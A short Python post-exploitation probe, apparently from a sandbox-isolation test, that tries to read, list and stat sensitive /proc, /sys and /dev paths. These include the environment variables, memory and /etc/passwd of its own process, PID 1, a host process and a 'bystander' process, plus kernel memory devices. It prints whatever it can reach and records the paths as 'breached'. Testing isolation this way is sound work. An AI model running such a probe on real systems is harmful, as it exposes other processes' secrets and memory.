# kind=cap; source: post-exploitation: what /proc and /sys tell, by Python's own functions
import os
did = []
paths = [f"/proc/{pid}/{name}" for pid in ("self", 1, target["host"], target["bystander"])
         for name in ("environ", "cmdline", "mem", "maps", "status", "fd", "root/etc/passwd", "cwd", "exe")]
paths += ["/proc/self/fd/3", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/sys/kernel", "/proc/kcore", "/proc/sys/kernel/core_pattern"]
for path in paths:
    for way in (lambda: open(path, "rb").read(4096), lambda: os.listdir(path), lambda: os.readlink(path), lambda: os.stat(path)):
        try:
            print(way())
            did.append(path)
        except OSError:
            pass
breached = did
